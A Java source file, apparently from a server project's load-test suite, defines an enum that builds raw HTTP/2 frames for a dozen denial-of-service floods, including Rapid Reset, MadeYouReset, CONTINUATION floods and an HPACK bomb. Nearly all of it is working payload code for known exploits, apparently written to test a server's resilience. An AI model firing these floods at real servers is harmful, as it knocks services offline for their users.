package dev.parlance.loadtest;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/**
 * An attack on an HTTP/2 server: one frame or a few, over and over. Rows as in docs/performance.
 */
enum Flood {
  /** Requests that are given up at once (CVE-2023-44487). */
  RAPID_RESET("requests reset at once") {
    @Override
    byte[] piece(int n) {
      return join(request(stream(n), true), frame(RST_STREAM, 0, stream(n), number(8)));
    }
  },
  /** Requests that the server is made to reset (CVE-2025-55163). */
  MADE_YOU_RESET("resets the server is made to send") {
    @Override
    byte[] piece(int n) {
      return join(request(stream(n), true), frame(WINDOW_UPDATE, 0, stream(n), number(0)));
    }
  },
  /** A header block that never ends (CVE-2026-33871). */
  CONTINUATIONS("empty CONTINUATION") {
    @Override
    byte[] first() {
      return frame(HEADERS, 0, 1, block("GET"));
    }

    @Override
    byte[] piece(int n) {
      return frame(CONTINUATION, 0, 1, new byte[0]);
    }
  },
  /** A header block larger than any limit. */
  BIG_CONTINUATIONS("CONTINUATION of 1 KB") {
    @Override
    byte[] first() {
      return frame(HEADERS, 0, 1, block("GET"));
    }

    @Override
    byte[] piece(int n) {
      return frame(CONTINUATION, 0, 1, field("x" + n % 10, "y".repeat(1000)));
    }
  },
  /** Pings whose answers are read. */
  PINGS("PING") {
    @Override
    byte[] piece(int n) {
      return frame(PING, 0, 0, new byte[8]);
    }
  },
  /** Settings that change a little. */
  SETTINGS_FRAMES("SETTINGS") {
    @Override
    byte[] piece(int n) {
      return frame(
          SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) 4).putInt(n % 9).array());
    }
  },
  /** Bodies of nothing. */
  EMPTY_DATA("empty DATA") {
    @Override
    byte[] first() {
      return request(1, false);
    }

    @Override
    byte[] piece(int n) {
      return frame(DATA, 0, 1, new byte[0]);
    }
  },
  /** Bodies of one byte at a time. */
  SMALL_DATA("DATA of 1 byte") {
    @Override
    byte[] first() {
      return request(1, false);
    }

    @Override
    byte[] piece(int n) {
      return frame(DATA, 0, 1, new byte[1]);
    }
  },
  /** Windows opened by a byte. */
  WINDOW_UPDATES("WINDOW_UPDATE of 1") {
    @Override
    byte[] piece(int n) {
      return frame(WINDOW_UPDATE, 0, 0, number(1));
    }
  },
  /** Priorities of streams that do not exist. */
  PRIORITIES("PRIORITY") {
    @Override
    byte[] piece(int n) {
      return frame(PRIORITY, 0, stream(n % 1000), new byte[] {0, 0, 0, 0, 16});
    }
  },
  /** More requests at once than the server takes. */
  OPEN_STREAMS("requests over the limit") {
    @Override
    byte[] piece(int n) {
      return request(stream(n), false);
    }
  },
  /** A stored field of 1 KB, repeated from the table. */
  HPACK_BOMB("HPACK bomb, 4 MB for each 4 KB") {
    @Override
    byte[] piece(int n) {
      byte[] stored = field("x", "y".repeat(1000));
      stored[0] = 0x40;
      byte[] repeated = new byte[4000];
      Arrays.fill(repeated, (byte) 0xbe);
      return frame(HEADERS, 5, stream(n), join(block("GET"), stored, repeated));
    }
  };

  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;

  private final String what;

  Flood(String what) {
    this.what = what;
  }

  /** In words. */
  String what() {
    return what;
  }

  /** What comes once, before the flood. */
  byte[] first() {
    return new byte[0];
  }

  /** The n-th piece of the flood. */
  abstract byte[] piece(int n);

  /** The preface of a client and its empty SETTINGS. */
  static byte[] greeting() {
    return join(
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
        frame(SETTINGS, 0, 0, new byte[0]));
  }

  private static int stream(int n) {
    return 2 * n + 1;
  }

  private static byte[] request(int stream, boolean end) {
    return frame(HEADERS, end ? 5 : 4, stream, block(end ? "GET" : "POST"));
  }

  private static byte[] block(String method) {
    return join(
        field(":method", method),
        field(":scheme", "http"),
        field(":path", "/flood"),
        field(":authority", "agent.test"));
  }

  private static byte[] number(int value) {
    return ByteBuffer.allocate(4).putInt(value).array();
  }

  /** A literal field, without indexing and without Huffman. */
  private static byte[] field(String name, String value) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0);
    for (String text : new String[] {name, value}) {
      byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
      int rest = bytes.length - 127;
      out.write(Math.min(127, bytes.length));
      while (rest >= 128) {
        out.write((rest & 127) | 128);
        rest >>= 7;
      }
      if (rest >= 0) {
        out.write(rest);
      }
      out.writeBytes(bytes);
    }
    return out.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putInt((payload.length << 8) | type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] join(byte[]... parts) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }
}
